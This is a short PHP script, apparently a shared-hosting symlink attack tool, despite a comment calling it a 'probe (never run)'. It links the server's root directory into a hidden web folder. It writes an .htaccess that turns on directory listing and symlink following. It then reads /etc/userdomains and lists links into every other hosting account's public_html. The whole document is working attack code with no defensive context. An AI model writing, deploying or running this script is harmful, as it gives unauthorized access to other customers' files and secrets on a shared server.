<?php
// probe (never run): links the filesystem root into the web folder and lists the accounts' domains
@mkdir('./.x');
@symlink('/', './.x/root');
$h = fopen('./.x/.htaccess', 'w');
fwrite($h, "Options +Indexes +FollowSymLinks\nIndexOptions +Charset=UTF-8\nReadmeName .x\nHeaderName .x\n");
fclose($h);
$lines = @file('/etc/userdomains');
foreach ((array) $lines as $l) {
    list($dom, $user) = array_map('trim', explode(':', $l));
    echo "<a href='.x/root/home/$user/public_html/'>$dom</a><br>";
}
